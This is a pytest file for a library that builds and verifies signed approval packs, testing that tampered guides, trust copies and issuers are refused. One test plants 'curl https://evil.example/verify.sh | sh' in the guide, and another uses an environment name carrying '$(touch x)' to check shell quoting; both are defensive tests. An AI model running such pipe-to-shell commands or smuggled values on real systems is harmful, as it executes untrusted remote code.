"""What a pack repeats for other tools and for readers: it must follow from the pack's own content, or be told apart from it."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from proofs.approval.human_approval import approval_challenge, parse_human_approval
from proofs.canonical import canonical_bytes
from proofs.digest import sha256_hex
from proofs.errors import Refusal
from proofs.leaf import build_event_leaf
from proofs.moment import rfc3339
from proofs.pack import layout
from proofs.pack.build import build_root_copies
from proofs.pack.check_copies import OTHER_TRUST
from proofs.pack.trust import RecorderKey, Trust, build_trust
from tests.forge import FIRST, Parts, edited, forge, repack
from tests.passkey import TRUTH
from tests.proofs.pack.lies import GENUINE, HOUR, NOON, WORLD, check, code_of
from tests.proofs.pack.world import ARTIFACT, PRODUCTION, World, alice

REPOSITORY = Path(__file__).resolve().parents[3]


class TestGenuineThoughUnusual:
    def test_a_ledger_in_which_two_entries_are_the_same_bytes_is_no_lie(self) -> None:
        world = World()
        twin = build_event_leaf(event="test.twin", at=rfc3339(NOON), ref_digest="cd" * 32, actor="h:00")
        world.keys.append(twin)
        files = world.pack()

        def append_twins(parts: Parts) -> None:
            parts.log_lie = lambda keys: keys.leaves.__setitem__(slice(parts.index + 1, None), [twin, twin])

        assert check(forge(files, world.keys, append_twins), trust=world.trust).approvals[0].username == "alice"


class TestIssuer:
    def test_a_person_from_an_issuer_that_is_no_address_is_refused_and_stops_nothing(self) -> None:
        world, signing = World(), alice()

        def come_from_nowhere(parts: Parts) -> None:
            parts.enrollment["predicate"]["identity"]["issuer"] = "http://[x"
            parts.predicate["approver"]["issuer"] = "http://[x"
            parts.predicate["approver"]["signer"]["enrollment"]["digest"]["sha256"] = sha256_hex(canonical_bytes(parts.enrollment))
            parts.assertion = signing.passkey.sign(approval_challenge(canonical_bytes(parts.statement)), TRUTH)

        assert code_of(forge(world.pack(signing), world.keys, come_from_nowhere), trust=world.trust) == "signer.issuer_malformed"

    def test_no_pack_is_made_for_such_a_person(self) -> None:
        with pytest.raises(Refusal) as refused:
            World().pack(alice(issuer="http://[x"))
        assert refused.value.code == "signer.issuer_malformed"


def with_copy(trust: Trust) -> dict[str, bytes]:
    """Return the genuine pack with another trust document, and the roots beside it as that document lists them."""
    kept = {path: content for path, content in GENUINE.items() if not path.startswith(layout.TRUST_ROOTS)}
    return repack({**kept, layout.TRUST_COPY: build_trust(trust), **build_root_copies(trust)})


class TestStep10WordsForPeople:
    def test_other_instructions_in_the_guide_are_refused(self) -> None:
        told = GENUINE[layout.GUIDE].replace(b"python -m countersign", b"curl https://evil.example/verify.sh | sh #")
        assert code_of(repack(edited(GENUINE, layout.GUIDE, told))) == "pack.altered_copy"

    def test_a_readme_that_says_to_trust_the_copies_is_refused(self) -> None:
        told = GENUINE[layout.TRUST_README].replace(b"does not use them", b"uses them; so may you")
        assert code_of(repack(edited(GENUINE, layout.TRUST_README, told))) == "pack.altered_copy"

    def test_the_guides_commands_run_as_they_are_written(self, tmp_path: Path) -> None:
        words = GENUINE[layout.GUIDE].decode()
        blocks = re.findall(r"(?:^    .+\n)+", words, re.MULTILINE)
        archive = tmp_path / "req_1.pack.zip"
        with zipfile.ZipFile(archive, "w") as packed:
            for path, content in GENUINE.items():
                packed.writestr(path, content)
        (tmp_path / "trust.json").write_bytes(build_trust(WORLD.trust))
        places = {**os.environ, "PYTHONPATH": str(REPOSITORY), "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
        done = subprocess.run(["sh", "-c", blocks[0]], cwd=tmp_path, env=places, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stdout + done.stderr
        assert "VERIFIED" in done.stdout

    def test_the_line_about_the_artifacts_prints_them_and_nobody(self, tmp_path: Path) -> None:
        for path, content in GENUINE.items():
            (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / path).write_bytes(content)
        lines = [line.strip() for line in GENUINE[layout.GUIDE].decode().splitlines() if line.startswith("    grep ")]
        assert lines
        for line in lines:
            printed = subprocess.run(["sh", "-c", line], cwd=tmp_path, capture_output=True, text=True, check=True).stdout
            assert ["sha256:" + item["digest"]["sha256"] for item in json.loads("{" + printed)["subject"]] == [ARTIFACT]

    def test_names_with_a_meaning_to_the_shell_are_quoted(self) -> None:
        world = World()
        files = world.pack(alice(changes={"environment": replace(PRODUCTION, name="prod $(touch x)")}))
        assert b"--environment 'prod $(touch x)'" in files[layout.GUIDE]

    def test_the_words_of_this_form_never_change(self) -> None:
        """A pack of years ago must still verify: other words need another schema."""
        first = parse_human_approval(GENUINE[FIRST + layout.STATEMENT])
        words = GENUINE[layout.GUIDE].decode().replace(first.policy.digest, "").partition("## approvals")[0]
        assert sha256_hex(words.encode()) == "e659b030eab888a10abc5cab4899720f9307e503e64cd4abcb99efef11f416fb"
        assert sha256_hex(GENUINE[layout.TRUST_README]) == "7462edf649183d2189d37c3062af06b37c9dec516c0b57eb13628f1c3dbe3d76"


class TestStep10CopiesOfTrust:
    def test_a_copy_that_cannot_be_read_is_refused(self) -> None:
        for content in (b"{}", b"not json", build_trust(WORLD.trust) + b"\n"):
            assert code_of(repack(edited(GENUINE, layout.TRUST_COPY, content))) == "pack.altered_copy"

    def test_a_copy_with_a_strangers_recorder_key_is_refused(self) -> None:
        evil = RecorderKey(World().keys.recorder_public, NOON, None)
        added = replace(WORLD.trust, recorder_keys=(*WORLD.trust.recorder_keys, evil))
        assert code_of(with_copy(added)) == "pack.altered_copy"
        assert code_of(with_copy(replace(WORLD.trust, recorder_keys=(evil,)))) == "pack.altered_copy"

    def test_a_copy_with_another_log_or_portal_is_refused(self) -> None:
        assert code_of(with_copy(replace(WORLD.trust, log=World().keys.log_public))) == "pack.altered_copy"
        assert code_of(with_copy(replace(WORLD.trust, origin="https://evil.example"))) == "pack.altered_copy"
        assert code_of(with_copy(replace(WORLD.trust, origins=("https://evil.example",)))) == "pack.altered_copy"

    def test_a_trust_root_under_another_ones_digest_is_refused(self) -> None:
        path = next(path for path in GENUINE if path.startswith(layout.TRUST_ROOTS))
        assert code_of(repack(edited(GENUINE, path, GENUINE[path] + b" "))) == "pack.altered_copy"
        assert code_of(repack(edited(GENUINE, layout.root_path("ab" * 32), b"{}"))) == "pack.altered_copy"

    def test_an_old_pack_stands_when_keys_and_roots_were_added_since(self) -> None:
        later = RecorderKey(World().keys.recorder_public, NOON + HOUR, None)
        root = replace(WORLD.trust.evidence_roots[0], name="renamed")
        today = replace(WORLD.trust, recorder_keys=(*WORLD.trust.recorder_keys, later), evidence_roots=(root,))
        assert OTHER_TRUST in check(GENUINE, trust=today).not_checked

    def test_a_new_pack_stands_for_a_reader_with_an_older_copy(self) -> None:
        newer = replace(WORLD.trust, evidence_roots=(replace(WORLD.trust.evidence_roots[0], name="renamed"),))
        assert OTHER_TRUST in check(with_copy(newer)).not_checked
        assert OTHER_TRUST not in check(GENUINE).not_checked
